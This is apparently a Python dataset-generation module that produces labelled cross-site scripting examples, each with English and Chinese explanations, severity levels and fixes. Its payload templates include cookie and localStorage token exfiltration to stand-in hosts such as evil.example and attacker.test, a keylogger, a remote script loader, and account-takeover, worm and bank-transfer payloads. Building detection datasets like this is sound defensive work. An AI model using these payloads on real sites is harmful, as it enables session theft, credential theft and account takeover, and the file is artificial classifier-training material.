"""Cross-site scripting: script tags, event handlers, javascript: URLs, SVG, cookie and token
theft, account takeover; HTML injection without script; and benign look-alikes (formatting tags,
escaped markup shown as text, comparisons with < and >)."""

from __future__ import annotations

from fwyy_ollama.dataset.catalog import Category, Template
from fwyy_ollama.report import Label

POOL = {
    "host": (
        "evil.example",
        "attacker.test",
        "203.0.113.7",
        "c2.invalid",
        "collect.attacker.test",
        "198.51.100.23",
    ),
    "good": ("example.com", "docs.python.org", "developer.mozilla.org", "wikipedia.org", "github.com"),
    "alert": ("alert(1)", "alert(document.domain)", "confirm(1)", "prompt(1)", "alert('XSS')", "print()"),
    "word": ("great", "thanks", "important", "new", "fixed", "hello", "update", "note"),
    "word2": ("really", "soon", "today", "again", "here", "twice"),
    "a": ("2", "3", "5", "7", "10", "x"),
    "b": ("4", "8", "9", "12", "20", "y"),
    "tag": ("b", "i", "em", "strong", "u", "code"),
    "img": ("cat.png", "logo.svg", "chart.jpg", "avatar.webp", "diagram.png"),
    "n": ("1", "7", "42", "1337", "9001"),
    "path": ("c", "log", "x", "steal", "collect"),
    "tkey": ("token", "jwt", "access_token", "auth", "session"),
    "email": ("eve@attacker.test", "owner@evil.example", "x@c2.invalid", "mallory@attacker.test"),
    "attacker": ("eve", "mallory", "support_team", "sys_admin2"),
    "pw": ("Pwned123!", "hunter2hunter2", "Winter2026!", "letmein!!"),
    "deface": ("HACKED", "Site closed", "Pay 1 BTC", "Owned by eve"),
}

SUBJECTS = {
    "en": ("This HTML snippet", "This user-supplied HTML", "This HTML input"),
    "zh": ("这段 HTML 内容", "这段用户提交的 HTML", "这段 HTML 输入"),
}

T = Template
S = Label.SAFE
L = Label.LOW
M = Label.MEDIUM
H = Label.HIGH
C = Label.CRITICAL

TEMPLATES = (
    # ------------------------------------------------------------------ safe
    T(
        "xss.format_tags",
        "xss",
        S,
        "<{tag}>{word}</{tag}> and {word2}",
        (
            "only uses the `<{tag}>` formatting tag around plain text; no script, event handler or URL.",
            "None, if the site allows this tag by design.",
            "Render it through an HTML sanitizer with an allow-list of formatting tags.",
        ),
        (
            "只在纯文本外包了一个 `<{tag}>` 格式标签，没有脚本、事件处理器或 URL。",
            "无（前提是站点本就允许该标签）。",
            "经由白名单式 HTML 清洗器渲染，只放行格式类标签。",
        ),
    ),
    T(
        "xss.escaped_text",
        "xss",
        S,
        "{lead} &lt;script&gt;{alert}&lt;/script&gt;",
        (
            "is already entity-escaped: `&lt;script&gt;` displays as text and the browser never runs `{alert}`.",
            "None while it stays escaped; decoding it before output would create a real XSS.",
            "Keep output encoding; do not unescape stored text before rendering it.",
        ),
        (
            "已做实体转义：`&lt;script&gt;` 只会显示为文字，浏览器不会执行 `{alert}`。",
            "保持转义即无风险；若输出前被解码则会变成真正的 XSS。",
            "保持输出编码；渲染前不要对已存储的文本反转义。",
        ),
        params={
            "lead": ("Example payload:", "Our filter now shows", "Blocked input was", "Test string:", "Docs:")
        },
    ),
    T(
        "xss.math_text",
        "xss",
        S,
        "{word}: {a} < {b} and {b} > {a}, so it checks out",
        (
            "is prose with comparison signs (`{a} < {b}`); `<` is followed by a space or digit, which "
            "never starts an HTML tag.",
            "None.",
            "No action; HTML-encode user text on output as usual.",
        ),
        (
            "是带比较符号的普通文字（`{a} < {b}`）；`<` 后面是空格或数字，不会构成 HTML 标签。",
            "无。",
            "无需处理；照常对输出的用户文本做 HTML 编码。",
        ),
    ),
    T(
        "xss.safe_link",
        "xss",
        S,
        '<a href="https://{good}/{word}">{word} docs</a>',
        (
            "is a plain `https://` link to {good}; no `javascript:` scheme and no event handler.",
            "None.",
            'Allow it through a sanitizer that permits only http(s) links; add `rel="noopener"`.',
        ),
        (
            "是指向 {good} 的普通 `https://` 链接，没有 `javascript:` 协议，也没有事件处理器。",
            "无。",
            '通过只允许 http(s) 链接的清洗器放行；加上 `rel="noopener"`。',
        ),
    ),
    T(
        "xss.safe_img",
        "xss",
        S,
        '<img src="https://{good}/{img}" alt="{word}">',
        (
            "is an image tag with an https source on {good} and alt text; it has no `onerror` or other handler.",
            "None.",
            "Allow it if images are permitted; restrict sources with a Content-Security-Policy img-src.",
        ),
        (
            "是来源为 {good} 的 https 图片标签，带 alt 文本，没有 `onerror` 等事件处理器。",
            "无。",
            "若允许图片则放行；用 CSP 的 img-src 限制来源。",
        ),
    ),
    T(
        "xss.code_mention",
        "xss",
        S,
        "Use `document.getElementById('{word}')` to find the element.",
        (
            "only mentions JavaScript inside a code span in prose; nothing here is markup that executes.",
            "None, as long as it is HTML-encoded when shown.",
            "Render with output encoding (or a Markdown renderer that escapes code spans).",
        ),
        (
            "只是在文字中以代码片段提到 JavaScript，没有会被执行的标记。",
            "无（显示时做 HTML 编码即可）。",
            "使用输出编码渲染（或会转义代码片段的 Markdown 渲染器）。",
        ),
    ),
    # ------------------------------------------------------------------ low: HTML injection, no script
    T(
        "xss.pixel",
        "xss",
        L,
        '<img src="https://{host}/p.gif?u={n}" width="1" height="1">',
        (
            "embeds a 1x1 tracking pixel from {host}; it runs no script, but every viewer's IP and browser are "
            "sent to that host.",
            "Privacy leak and HTML injection (CWE-80); confirms the field accepts raw tags.",
            "Sanitize user HTML; block third-party images via CSP img-src.",
        ),
        (
            "嵌入了来自 {host} 的 1x1 追踪像素；不执行脚本，但每位浏览者的 IP 和浏览器信息都会发往该主机。",
            "隐私泄露与 HTML 注入（CWE-80），也说明该字段接受原始标签。",
            "清洗用户 HTML；用 CSP img-src 阻止第三方图片。",
        ),
    ),
    T(
        "xss.deface",
        "xss",
        L,
        '<h1 style="color:red">{deface}</h1>',
        (
            'injects a large red `<h1>` reading "{deface}"; no script, but it defaces the page for visitors.',
            "Content spoofing via HTML injection (CWE-80).",
            "Encode user text on output or sanitize with an allow-list that drops headings and style.",
        ),
        (
            "注入了一个写着“{deface}”的红色大号 `<h1>`；没有脚本，但会篡改页面外观。",
            "通过 HTML 注入伪造页面内容（CWE-80）。",
            "输出时编码用户文本，或用白名单清洗去掉标题和 style。",
        ),
    ),
    T(
        "xss.phish_link",
        "xss",
        L,
        '<a href="https://{host}/login">Your session expired, sign in again</a>',
        (
            "injects a link to a fake login page on {host} with a lure text; no script runs, but users may "
            "type their password there.",
            "Phishing through HTML injection (CWE-80).",
            "Sanitize links; mark external links; tell users the real login domain.",
        ),
        (
            "注入了指向 {host} 假登录页的链接和诱导文字；不执行脚本，但用户可能在那里输入密码。",
            "借 HTML 注入进行钓鱼（CWE-80）。",
            "清洗链接；标注外部链接；告知用户真实登录域名。",
        ),
    ),
    T(
        "xss.iframe_embed",
        "xss",
        L,
        '<iframe src="https://{host}/{path}" width="{w}" height="300"></iframe>',
        (
            "embeds a page from {host} in an iframe; it cannot read this page, but shows attacker-controlled "
            "content (ads, fake forms) inside the site.",
            "Content injection and possible clickjacking lures (CWE-80, CWE-1021).",
            "Strip iframes from user HTML; use CSP frame-src to allow only trusted embeds.",
        ),
        (
            "用 iframe 嵌入了来自 {host} 的页面；它读不到本页内容，但会在站内展示攻击者控制的内容（广告、假表单）。",
            "内容注入，并可能用于点击劫持诱导（CWE-80、CWE-1021）。",
            "从用户 HTML 中去掉 iframe；用 CSP frame-src 只允许可信嵌入。",
        ),
        params={"w": ("300", "480", "600", "800")},
    ),
    # ------------------------------------------------------------------ medium: script runs, proof only
    T(
        "xss.script_alert",
        "xss",
        M,
        "<script>{alert}</script>",
        (
            "is a classic `<script>` tag running `{alert}`: a proof of concept showing the page executes "
            "attacker JavaScript.",
            "Reflected or stored XSS (CWE-79); the same hole can run any script.",
            "HTML-encode user input on output; add a Content-Security-Policy without 'unsafe-inline'.",
        ),
        (
            "经典的 `<script>` 标签，执行 `{alert}`：证明页面会运行攻击者的 JavaScript 的概念验证。",
            "反射型或存储型 XSS（CWE-79），同一漏洞可执行任意脚本。",
            "输出时对用户输入做 HTML 编码；配置不含 'unsafe-inline' 的 CSP。",
        ),
    ),
    T(
        "xss.img_onerror",
        "xss",
        M,
        "<img src={bad} onerror={alert}>",
        (
            "points an image at a broken source (`{bad}`) so its `onerror` handler fires and runs `{alert}`; "
            "no `<script>` tag needed.",
            "XSS through an event handler (CWE-79), which tag-only filters miss.",
            "Use a sanitizer that strips all `on*` attributes, or encode output; enforce CSP.",
        ),
        (
            "让图片指向无效地址（`{bad}`），触发 `onerror` 事件执行 `{alert}`，无需 `<script>` 标签。",
            "借事件处理器实现的 XSS（CWE-79），只过滤标签的方案拦不住。",
            "使用会去掉所有 `on*` 属性的清洗器，或做输出编码；启用 CSP。",
        ),
        params={"bad": ("x", "1", "/", "#", "nope")},
    ),
    T(
        "xss.svg_onload",
        "xss",
        M,
        "<svg onload={alert}>",
        (
            "uses an `<svg>` element whose `onload` runs `{alert}` as soon as it is parsed.",
            "XSS via SVG event handler (CWE-79).",
            "Strip SVG and event attributes from user HTML; encode output; enforce CSP.",
        ),
        (
            "使用 `<svg>` 元素，其 `onload` 在解析时立即执行 `{alert}`。",
            "借 SVG 事件处理器实现的 XSS（CWE-79）。",
            "从用户 HTML 中去掉 SVG 和事件属性；输出编码；启用 CSP。",
        ),
    ),
    T(
        "xss.js_url",
        "xss",
        M,
        '<a href="javascript:{alert}">{word}</a>',
        (
            "is a link whose `javascript:` URL runs `{alert}` when clicked.",
            "XSS through a javascript: URL (CWE-79, CWE-83).",
            "Allow only http(s) and mailto schemes in links; encode output.",
        ),
        (
            "是一个链接，点击后其 `javascript:` URL 会执行 `{alert}`。",
            "借 javascript: URL 实现的 XSS（CWE-79、CWE-83）。",
            "链接只允许 http(s) 和 mailto 协议；输出编码。",
        ),
    ),
    T(
        "xss.details_toggle",
        "xss",
        M,
        "<details open ontoggle={alert}>",
        (
            "abuses `<details open>` so the `ontoggle` event fires without any click and runs `{alert}`.",
            "XSS via an uncommon event handler that blocklists often miss (CWE-79).",
            "Use an allow-list sanitizer (drop every `on*` attribute); encode output; CSP.",
        ),
        (
            "利用 `<details open>`，无需点击即可触发 `ontoggle` 事件执行 `{alert}`。",
            "借冷门事件处理器实现的 XSS，黑名单常会漏掉（CWE-79）。",
            "使用白名单清洗器（去掉所有 `on*` 属性）；输出编码；CSP。",
        ),
    ),
    T(
        "xss.meta_refresh",
        "xss",
        M,
        '<meta http-equiv="refresh" content="0;url=https://{host}/">',
        (
            "injects a meta refresh that immediately redirects every visitor to https://{host}/.",
            "Open redirect to an attacker site, usable for phishing or malware (CWE-601, CWE-80).",
            "Strip `<meta>` from user content; encode output.",
        ),
        (
            "注入 meta refresh，立即把所有访客重定向到 https://{host}/。",
            "开放重定向到攻击者站点，可用于钓鱼或投放恶意软件（CWE-601、CWE-80）。",
            "从用户内容中去掉 `<meta>`；输出编码。",
        ),
    ),
    # ------------------------------------------------------------------ high: theft
    T(
        "xss.cookie_image",
        "xss",
        H,
        "<script>new Image().src='https://{host}/{path}?'+document.cookie</script>",
        (
            "reads `document.cookie` and sends it to https://{host}/{path} by loading an image URL, stealing "
            "the viewer's session cookies.",
            "Session hijacking through XSS (CWE-79).",
            "Encode output; set cookies HttpOnly and SameSite; add a CSP with connect-src/img-src limits.",
        ),
        (
            "读取 `document.cookie`，通过加载图片地址发送到 https://{host}/{path}，窃取浏览者的会话 Cookie。",
            "借 XSS 劫持会话（CWE-79）。",
            "输出编码；Cookie 设置 HttpOnly 和 SameSite；配置限制 connect-src/img-src 的 CSP。",
        ),
    ),
    T(
        "xss.cookie_fetch",
        "xss",
        H,
        "<img src=x onerror=\"fetch('https://{host}/{path}?c='+document.cookie)\">",
        (
            "uses a broken image's `onerror` to `fetch` https://{host}/{path} with the viewer's cookies in the URL.",
            "Session theft via event-handler XSS (CWE-79).",
            "Sanitize user HTML (no `on*` attributes); HttpOnly cookies; CSP connect-src.",
        ),
        (
            "利用失效图片的 `onerror` 调用 `fetch`，把浏览者的 Cookie 拼在 URL 中发往 https://{host}/{path}。",
            "借事件处理器 XSS 窃取会话（CWE-79）。",
            "清洗用户 HTML（去掉 `on*` 属性）；HttpOnly Cookie；CSP connect-src。",
        ),
    ),
    T(
        "xss.token_theft",
        "xss",
        H,
        "<svg onload=\"fetch('//{host}',{{method:'POST',body:localStorage.getItem('{tkey}')}})\">",
        (
            "reads the `{tkey}` token from localStorage and POSTs it to {host}, so the attacker can call the API "
            "as the victim.",
            "Token theft and account impersonation via XSS (CWE-79).",
            "Encode output; keep tokens in HttpOnly cookies rather than localStorage; CSP connect-src.",
        ),
        (
            "从 localStorage 读取 `{tkey}` 令牌并 POST 到 {host}，攻击者即可冒充受害者调用 API。",
            "借 XSS 窃取令牌、冒充账户（CWE-79）。",
            "输出编码；令牌放在 HttpOnly Cookie 而非 localStorage；CSP connect-src。",
        ),
    ),
    T(
        "xss.remote_script",
        "xss",
        H,
        '<script src="https://{host}/{path}.js"></script>',
        (
            "loads a script from https://{host}/{path}.js, giving that host full control of the page for every "
            "viewer (the code can change at any time).",
            "Arbitrary JavaScript from an attacker domain: session theft, keylogging (CWE-79, CWE-829).",
            "Encode output; CSP script-src limited to your own origins.",
        ),
        (
            "从 https://{host}/{path}.js 加载脚本，让该主机完全控制每位访客看到的页面（代码可随时更换）。",
            "执行来自攻击者域名的任意 JavaScript：窃取会话、键盘记录（CWE-79、CWE-829）。",
            "输出编码；CSP 的 script-src 只允许自有来源。",
        ),
    ),
    T(
        "xss.keylogger",
        "xss",
        H,
        "<script>document.onkeypress=function(e){{new Image().src='//{host}/k?'+e.key}}</script>",
        (
            "installs a keylogger: every key pressed on the page is sent to {host}, including passwords typed "
            "into forms.",
            "Credential theft via XSS (CWE-79).",
            "Encode output; strict CSP without inline scripts; sanitize stored HTML.",
        ),
        (
            "安装键盘记录器：页面上的每次按键（包括表单里输入的密码）都会发送到 {host}。",
            "借 XSS 窃取凭据（CWE-79）。",
            "输出编码；禁止内联脚本的严格 CSP；清洗存储的 HTML。",
        ),
    ),
    # ------------------------------------------------------------------ critical: account takeover
    T(
        "xss.change_email",
        "xss",
        C,
        "<script>fetch('{ep}',{{method:'POST',credentials:'include',body:'email={email}'}})</script>",
        (
            "silently changes the victim's account email to {email} with their own session; a password reset "
            "then hands the account to the attacker.",
            "Full account takeover via XSS (CWE-79, CWE-352).",
            "Encode output; require the current password or re-auth to change email; CSP; CSRF tokens.",
        ),
        (
            "利用受害者自己的会话，悄悄把账户邮箱改成 {email}；之后一次密码重置即可把账户交给攻击者。",
            "借 XSS 完全接管账户（CWE-79、CWE-352）。",
            "输出编码；修改邮箱需验证当前密码或重新认证；CSP；CSRF 令牌。",
        ),
        params={"ep": ("/api/account/email", "/account/update", "/user/profile", "/api/v1/me")},
    ),
    T(
        "xss.change_password",
        "xss",
        C,
        "<svg onload=\"fetch('{ep}',{{method:'POST',credentials:'include',body:'new={pw}'}})\">",
        (
            "sets the victim's password to `{pw}` through their logged-in session the moment the SVG loads.",
            "Account takeover via XSS (CWE-79, CWE-620).",
            "Encode output; ask for the old password on change; strip SVG/event attributes; CSP.",
        ),
        (
            "SVG 一加载就借受害者的登录会话把密码改为 `{pw}`。",
            "借 XSS 接管账户（CWE-79、CWE-620）。",
            "输出编码；修改密码需输入旧密码；去掉 SVG/事件属性；CSP。",
        ),
        params={"ep": ("/settings/password", "/api/user/password", "/account/security", "/me/password")},
    ),
    T(
        "xss.add_admin",
        "xss",
        C,
        "<img src=x onerror=\"fetch('{ep}',{{method:'POST',credentials:'include',body:'user={attacker}&role=admin'}})\">",
        (
            "when an administrator views it, creates an admin user `{attacker}` through the admin's session "
            "(stored XSS aimed at staff).",
            "Persistent administrative access for the attacker (CWE-79).",
            "Sanitize stored HTML; CSRF tokens on admin actions; alert on new admin users; CSP.",
        ),
        (
            "管理员查看时，借其会话创建管理员账号 `{attacker}`（针对后台人员的存储型 XSS）。",
            "攻击者获得持久的管理权限（CWE-79）。",
            "清洗存储的 HTML；管理操作加 CSRF 令牌；新增管理员告警；CSP。",
        ),
        params={"ep": ("/admin/users", "/api/admin/users", "/wp-admin/user-new.php")},
    ),
    T(
        "xss.worm",
        "xss",
        C,
        "<script>fetch('{ep}',{{method:'POST',credentials:'include',body:document.currentScript.outerHTML}})</script>",
        (
            "is a self-propagating worm: each viewer's session posts a copy of this script, infecting every "
            "reader in turn.",
            "Stored XSS spreading across all accounts (CWE-79).",
            "Encode output; CSP without inline scripts; remove infected posts and rotate sessions.",
        ),
        (
            "是会自我传播的蠕虫：每位浏览者的会话都会再发布一份该脚本，逐个感染读者。",
            "在所有账户间扩散的存储型 XSS（CWE-79）。",
            "输出编码；禁止内联脚本的 CSP；删除被感染的帖子并重置会话。",
        ),
        params={"ep": ("/api/posts", "/comments/new", "/forum/reply", "/api/v2/status")},
    ),
    T(
        "xss.transfer",
        "xss",
        C,
        "<script>fetch('/api/transfer',{{method:'POST',credentials:'include',body:'to={iban}&amount={amt}'}})</script>",
        (
            "makes the victim's browser transfer {amt} to account {iban} using their session, with no click "
            "or confirmation.",
            "Direct financial loss through session riding via XSS (CWE-79, CWE-352).",
            "Encode output; CSP; require step-up confirmation (OTP) for transfers.",
        ),
        (
            "借受害者的会话，在浏览器中无需点击或确认即向账户 {iban} 转账 {amt}。",
            "借 XSS 冒用会话造成直接经济损失（CWE-79、CWE-352）。",
            "输出编码；CSP；转账需二次确认（如 OTP）。",
        ),
        params={
            "iban": ("DE89370400440532013000", "GB29NWBK60161331926819", "FR7630006000011234567890189"),
            "amt": ("500", "999", "2500", "9900", "15000"),
        },
    ),
)

CATEGORY = Category("xss", POOL, SUBJECTS, TEMPLATES)
